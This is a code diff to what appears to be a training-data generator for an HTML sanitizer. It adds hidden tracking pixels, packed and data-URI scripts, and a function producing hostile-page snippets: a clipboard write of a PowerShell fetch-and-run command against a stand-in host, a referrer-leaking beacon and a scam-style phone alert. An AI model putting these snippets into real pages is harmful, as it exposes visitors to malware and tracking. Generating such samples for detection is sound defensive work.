@@ -11,7 +11,7 @@ from typing import TYPE_CHECKING, Final
 
 from sanitizer.training.generator.names import host as new_host
 from sanitizer.training.generator.names import identifier, word
-from sanitizer.training.generator.packing import as_digits, pack, run_decoded, scatter
+from sanitizer.training.generator.packing import as_data, as_digits, pack, run_decoded, scatter
 from sanitizer.training.generator.spelling import percent
 
 if TYPE_CHECKING:
@@ -52,8 +52,13 @@ def counter(rng: Random, _host: Host, _lexicon: Lexicon, _fillers: Sequence[str]
     number = rng.randint(1000, 99999999)
     away = 'style="position:absolute; left:-9999px"'
     picture = f'<img src="//{site}/hit?{number}" width="1" height="1" alt="" {away}>'
-    if rng.random() < 0.5:
+    manner = rng.random()
+    if manner < 0.3:
         return f"<noscript><div>{picture}</div></noscript>"
+    if manner < 0.5:
+        source = f"https://{site}/p?s={number}&amp;t={identifier(rng, 8, 40)}"
+        pixel = f'<img width=1 height=1 alt="" src="{source}">'
+        return f'<noscript><div style="position:absolute;">{pixel}</div></noscript>'
     name = word(rng, 2, 3).title()
     return f'<div style="display:none"><a href="http://{site}/">{picture}{name} stats</a></div>'
 
@@ -180,14 +185,17 @@ def site_script(rng: Random, _host: Host, _lexicon: Lexicon, _fillers: Sequence[
 
 def packed_script(rng: Random, _host: Host, _lexicon: Lexicon, _fillers: Sequence[str]) -> str:
     """Return some lines of a library or of the site's own code as its maker packed them."""
-    code = "".join(_site_code(rng) for _ in range(rng.randint(1, 8)))
+    code = "".join(_site_code(rng) for _ in range(rng.choice((1, 2, 5, 12, 40))))
     if rng.random() < 0.5:
         calls = (f"$('.{identifier(rng)}').{word(rng)}({rng.randint(1, 900)});" for _ in range(9))
         code += "jQuery(function($){" + "".join(calls) + "});"
     if rng.random() < 0.3:  # themes guard the link to their maker
         maker = f"http://{new_host(rng)}/"
         code += f"document.getElementById('{word(rng)}').setAttribute('href','{maker}');"
-    return f"<script>{pack(rng, code) if rng.random() < 0.6 else scatter(rng, code)}</script>"
+    manner = rng.random()
+    if manner < 0.15:
+        return f'<script src="{as_data(code)}" defer></script>'
+    return f"<script>{pack(rng, code) if manner < 0.65 else scatter(rng, code)}</script>"
 
 
 _ENGINES: Final = ("google", "bing", "yahoo", "yandex", "duckduckgo", "baidu")
@@ -214,6 +222,26 @@ def _site_code(rng: Random) -> str:
             f"if(!confirm('18+'))location.href='https://www.{rng.choice(_ENGINES)}.com/';",
             f"var {name}=JSON.parse(atob('{_settings(rng)}'));",
             f"location.href='/{name}/'+document.referrer;",
+            *_like_attacks(rng, name),
             *_NOT_FRAMED,
         )
+    )
+
+
+def _like_attacks(rng: Random, name: str) -> tuple[str, ...]:
+    """Return what pages do with the means of those who attack their readers."""
+    asked = "Notification.requestPermission().then(function(p){if(p==='granted')"
+    share = f"https://{_vendor(rng, 'www.facebook.com')}/sharer?u="
+    opened = f"window.open('https://{new_host(rng)}/');"
+    copied = "navigator.clipboard.writeText(this.dataset.code);"
+    return (
+        f"if('Notification' in window){asked}navigator.serviceWorker.register('/sw.js');}});",
+        f"document.getElementById('{name}').onclick=function(){{{copied}}};",
+        f"window.onbeforeunload=function(){{if({name})return 'Leave without saving?';}};",
+        f"function {name}(){{window.open('{share}'+encodeURIComponent(location.href),'');}}",
+        f"new Image().src='https://{_vendor(rng)}/p.gif?r='+encodeURIComponent(document.referrer);",
+        f"if(/checkout/.test(location.pathname))document.getElementById('{name}').style.top='0';",
+        f"alert('{word(rng).title()}: +1-8{rng.randint(0, 99):02}-555-{rng.randint(1000, 9999)}');",
+        f"document.addEventListener('click',function(e){{if(e.target.id=='{name}'){opened}}});",
+        "navigator.clipboard.writeText('powershell -c \"irm https://get.example/i.ps1 | iex\"');",
     )
